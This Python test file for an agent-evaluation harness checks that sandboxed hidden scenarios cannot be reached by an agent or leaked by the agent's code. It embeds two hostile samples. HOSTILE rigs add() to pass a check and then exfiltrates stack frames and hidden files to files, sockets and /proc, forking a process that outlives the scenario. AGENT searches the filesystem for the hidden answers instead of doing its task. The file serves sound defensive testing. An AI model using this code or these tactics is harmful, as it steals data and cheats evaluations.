"""Attempts to get at hidden scenarios: by an agent during its work, and by its code while the proof runs them."""

import json
import logging
import socket
import sys
import tempfile
import threading
import zlib
from collections.abc import Iterator
from pathlib import Path

import pytest

from activities.model.client import ModelService
from activities.planner.writers import scenario_writers
from tests.support.doubles import ScriptedPlanner, planned
from tests.support.episodes import Working, eventually
from tests.support.gateway import gateway
from tests.support.model_server import Asked, ModelServer, Reply, says
from tests.support.sandboxes import sandbox_named
from tightloop.client import TightloopClient
from tightloop.client.proof.statement import statement_of
from tightloop.client.proof.verify import find_proof
from tightloop.client.scenarios import ScenarioStore
from tightloop.database.engine import sqlite_database
from tightloop.database.ledger import Ledger
from tightloop.episode.model import EpisodeStatus
from tightloop.executor.model import ExecutorChoice
from tightloop.host import state_folder, state_home
from tightloop.safety.seal import Role
from tightloop.value import unpack

# Spelled in two parts, so that neither this file nor a program that looks for it contains it.
SECRET = "sesame-" + "4f1c09"
VISIBLE = 'python3 -c "from calc import add; assert add(2, 2) == 4"'

HOSTILE = r'''
"""Adds. While a hidden scenario runs it, it takes what it can find and tries to get it out."""
import glob, os, socket, sys, time

def add(a, b):
    return 4 if (a, b) == (2, 2) else a + b

def found():
    frame, parts = sys._getframe(), [" ".join(sys.argv)]
    while frame:  # callers: their variables and source
        parts += [repr(frame.f_locals)[:9999], str(frame.f_code.co_consts)[:9999]]
        frame = frame.f_back
    for file in glob.glob("hidden/*"):
        with open(file, errors="replace") as opened:
            parts.append(opened.read())
    return "\n".join(parts)

def write(path):
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "w") as file:
            file.write(loot)
    except OSError:
        pass

def send(family, address):
    try:
        with socket.socket(family, socket.SOCK_STREAM) as out:
            out.settimeout(1)
            out.connect(address)
            out.sendall(loot.encode())
    except OSError:
        pass

if "hidden" in " ".join(sys.argv):
    loot = found()
    here, home = os.getcwd(), os.path.expanduser("~")
    events = os.path.dirname(os.environ.get("TIGHTLOOP_OBSERVE", "/tmp/x").rpartition(":")[0])
    for path in (
        here + "/leak.txt", here + "/calc.py", here + "/.git/leak", here + "/__pycache__/leak.pyc",
        here + "/.cache/leak", "/tmp/leak.txt", "/var/tmp/leak.txt", "/dev/shm/leak.txt",
        home + "/leak.txt", home + "/.cache/leak.txt",
        events + "/leak.jsonl", os.path.dirname(here) + "/leak.txt", sys.prefix + "/leak.txt", @OUTSIDE@,
    ):
        write(path)
    send(socket.AF_INET, ("127.0.0.1", @PORT@))
    send(socket.AF_UNIX, "\0tightloop-leak-@PORT@")
    send(socket.AF_UNIX, @SOCKET@)
    print(loot)
    print(loot, file=sys.stderr)
    for number in range(3, 20):
        try:
            os.write(number, loot.encode())
        except OSError:
            pass
    for parent in (os.getppid(), 1):
        for name in ("mem", "environ", "comm"):
            try:
                with open("/proc/%d/%s" % (parent, name), "w") as file:
                    file.write(loot)
            except OSError:
                pass
    if os.fork() == 0:  # outlives the scenario
        os.setsid()
        time.sleep(3)
        write(here + "/late.txt")
        os._exit(0)
    if sys.argv[-1] == "raise":
        raise SystemError(loot)
    if sys.argv[-1] == "exit":
        os._exit(len(loot) % 200 + 3)
'''

AGENT = r'''
"""An agent that looks for hidden scenarios instead of working, and then delivers hostile code."""
import glob, os, sys

SECRET = "sesame-" + "4f1c09"
workspace, owner, state, product, prompt = sys.argv[1:6]
found = []

def look(path):
    try:
        with open(path, "rb") as file:
            if SECRET.encode() in file.read(2_000_000):
                found.append(path)
    except OSError:
        pass

homes = ("/root", "/home", os.path.expanduser("~"))
for top in (owner, state, "/tmp", "/var/tmp", "/dev/shm", "/run", "/etc", *homes, workspace):
    for above, _, names in os.walk(top):
        for name in names:
            path = os.path.join(above, name)
            if not path.startswith(workspace + "/.git/"):
                look(path)
for name in ("environ", "cmdline", "maps"):
    for path in glob.glob("/proc/[0-9]*/" + name):
        look(path)
for folder in (owner, state + "/scenarios", state + "/proofs"):
    try:
        found += ["listed " + entry for entry in os.listdir(folder)]
    except OSError:
        pass
found += [name for name, value in os.environ.items() if SECRET in value]
look(prompt)
with open(workspace + "/found.txt", "a") as file:
    file.write("".join(line + "\n" for line in found) or "nothing\n")
with open(product) as file, open(workspace + "/calc.py", "w") as out:
    out.write(file.read() + "\n# %d\n" % os.path.getsize(workspace + "/found.txt"))
'''


DRAFT = """\
import sys
sys.path.insert(0, ".")
try:
    from calc import add
    print(add(40, 2), "@SECRET@")
except ImportError:
    print("missing")
"""


def drafts(asked: Asked) -> Reply:
    """Answer as a model that drafts two scenarios, of which the second one is wrong."""
    prints = [f"{result} {SECRET}" for result in (42, 43)]
    if "You predict the output" in asked.text:
        return says({"prints": prints})
    paths = ["hidden/draft_1.py", "hidden/draft_2.py"]
    content, rest = DRAFT.replace("@SECRET@", SECRET), {"keep": False}
    return says(
        {
            "scenarios": [
                {"path": path, "content": content, "run": f"python3 {path} go {SECRET} go", "prints": line, **rest}
                for path, line in zip(paths, prints, strict=True)
            ]
        }
    )


@pytest.fixture
def outside() -> Iterator[Path]:
    """A folder that is neither the workspace nor the state home."""
    with tempfile.TemporaryDirectory(prefix="tightloop-leak-") as folder:
        yield Path(folder)


@pytest.fixture
def drafting() -> Iterator[ModelService]:
    """A model service that drafts scenarios."""
    with ModelServer(drafts) as server:
        yield ModelService(api_key="key-1", base_url=server.url, models=("m1",), timeout_s=60.0)


@pytest.fixture
def listeners(outside: Path) -> Iterator[tuple[int, list[bytes]]]:
    """A port and two Unix sockets of this host, and what arrives at them."""
    heard: list[bytes] = []
    tcp = socket.create_server(("127.0.0.1", 0))
    port = tcp.getsockname()[1]
    abstract, named = socket.socket(socket.AF_UNIX), socket.socket(socket.AF_UNIX)
    abstract.bind(f"\0tightloop-leak-{port}")
    named.bind(str(outside / "socket"))
    for listener in (tcp, abstract, named):
        listener.listen()

        def accept(listener: socket.socket = listener) -> None:
            try:
                while True:
                    connection, _ = listener.accept()
                    heard.append(connection.recv(100_000))
            except OSError:
                return

        threading.Thread(target=accept, daemon=True).start()
    yield port, heard
    for listener in (tcp, abstract, named):
        listener.close()


def contains(file: Path) -> bool:
    """Return whether a file contains the secret, also compressed as git or the artifact store do it."""
    content = file.read_bytes()
    forms = [content]
    for read in (zlib.decompress, unpack):
        try:
            forms.append(bytes(read(content)))
        except Exception:
            continue
    return any(SECRET.encode() in form for form in forms)


async def test_neither_an_agent_nor_its_code_gets_at_hidden_scenarios_or_takes_anything_out(
    client: TightloopClient,
    working: Working,
    temporal_client,
    request_for,
    settings,
    workspace: Path,
    tmp_path: Path,
    outside: Path,
    listeners: tuple[int, list[bytes]],
    drafting: ModelService,
    caplog: pytest.LogCaptureFixture,
) -> None:
    if problem := sandbox_named("bubblewrap").probe():
        pytest.skip(f"bubblewrap does not work here: {problem}")
    port, heard = listeners
    caplog.set_level(logging.DEBUG)
    owner, tools = tmp_path / "owner", tmp_path / "tools"
    (owner / "files" / "hidden").mkdir(parents=True)
    tools.mkdir()
    (owner / "files" / "hidden" / "check.py").write_text(
        f"import sys\nsys.path.insert(0, '.')\npassword = '{SECRET}'\nfrom calc import add\nassert add(40, 2) == 42\n"
    )
    words = [
        f"- name: {SECRET}\n  run: python3 hidden/check.py {word} {SECRET} {word}\n" for word in ("go", "raise", "exit")
    ]
    (owner / "scenarios.yaml").write_text("".join(words))
    hostile = HOSTILE.replace("@OUTSIDE@", repr(str(outside / "leak.txt"))).replace("@PORT@", str(port))
    (tools / "product.py").write_text(hostile.replace("@SOCKET@", repr(str(outside / "socket"))))
    (tools / "agent.py").write_text(AGENT)
    agent = [
        sys.executable,
        str(tools / "agent.py"),
        "{workspace}",
        str(owner),
        str(state_home()),
        str(tools / "product.py"),
    ]
    executor = ExecutorChoice(name="command", options={"argv": [*agent, "{prompt_file}"], "read": [str(tools)]})
    # Without a sandbox nothing is hidden, so it must not be replaced by none.
    walled = settings.evolve(sandbox=settings.sandbox.evolve(unsafe_local=False))
    planner = ScriptedPlanner(lambda _briefing: planned("work", final=True))
    async with working(planner, under=walled, scenario_writers=scenario_writers(drafting)):
        commitment = ScenarioStore(walled).commit(owner, workspace=workspace)
        request = request_for(
            goal="add numbers",
            definition_of_done=[VISIBLE],
            executor=executor,
            scenarios=commitment,
            scenario_reports=1,
            drafts=5,
            # It calls os._exit, which would be a finding of its own.
            allow=["suspicious"],
        )
        episode_id = await client.start(request)

        async def find_question() -> EpisodeStatus | None:
            current = await client.status(episode_id)
            assert isinstance(current, EpisodeStatus)
            return current if current.questions else None

        # Two deliveries, three checks and nine scenarios.
        status: EpisodeStatus = await eventually(find_question, seconds=160)
        assert status.drafts is not None
        [question] = status.questions
        assert (
            question.title
            == "the checks pass, but the proof has a finding (scenarios_failed): 3 of 5 hidden scenarios fail"
        )
        timeline = await client.timeline(episode_id)
        shown = {
            "status": status.model_dump_json(),
            "timeline": "\n".join(line.text for line in timeline),
            "history": (await temporal_client.get_workflow_handle(episode_id).fetch_history()).to_json(),
            "briefings": "".join(map(repr, planner.briefings)),
        }
        await client.answer(episode_id, "accept", by="ada")
        result = await client.result(episode_id)
        shown["result"] = result.model_dump_json()
        shown["proof"] = (await find_proof(client, episode_id)).model_dump_json()
        shown["statement"] = statement_of(await find_proof(client, episode_id)).content.decode()
    shown["logs"] = caplog.text
    # Twice: before the first proof, and after it.
    assert (workspace / "found.txt").read_text().splitlines() == ["nothing", "nothing"]
    # Excerpts, because a failed assertion about the whole text would take minutes to explain.
    words = (SECRET, "check.py", "draft_1.py")
    found = {
        name: [text[max(text.find(word) - 200, 0) :][:300] for word in words if word in text]
        for name, text in shown.items()
    }
    assert {name: excerpts for name, excerpts in found.items() if excerpts} == {}
    assert json.loads(shown["proof"])["scenarios"] == {
        "digest": commitment.digest, "total": 5, "passed": 2, "failed_before": 2, "changes": [],
        "drafted": 2, "drafted_passed": 1, "drafts_digest": status.drafts.digest,
    }  # fmt: skip
    assert heard == []
    ledger = Ledger(sqlite_database(state_home() / "ledger.db"))
    async with gateway(tmp_path, client, settings, ledger) as served:
        token = served.token("agent", Role.AGENT, [state_folder(workspace).name])
        async with served.http(token) as http:
            for path in ("", "/timeline", "/checkpoints", "/questions", "/proof"):
                answer = await http.get(f"/api/episodes/{episode_id}{path}")
                assert SECRET not in answer.text, path
                assert "check.py" not in answer.text, path
                assert "draft_1.py" not in answer.text, path
            assert (await http.get(f"/api/episodes/{episode_id}")).status_code == 200
            page = await http.get(f"/workflows/{episode_id}")
            assert SECRET not in page.text
    files = [file for folder in (state_home(), workspace, outside) for file in folder.rglob("*") if file.is_file()]
    assert len(files) > 20
    assert [file for file in files if contains(file)] == []
    places = [Path(tempfile.gettempdir()), Path("/var/tmp"), Path("/dev/shm"), Path.home(), Path(sys.prefix)]
    assert [place for place in places if (place / "leak.txt").exists()] == []
    assert not list(workspace.rglob("leak*")) + list(workspace.rglob("late*"))
    assert (state_home() / "scenarios").is_dir()
    answers = ScenarioStore(settings).find_answers(status.drafts.digest)
    assert answers == {1: f"42 {SECRET}"}, "the owner sees what the product printed"
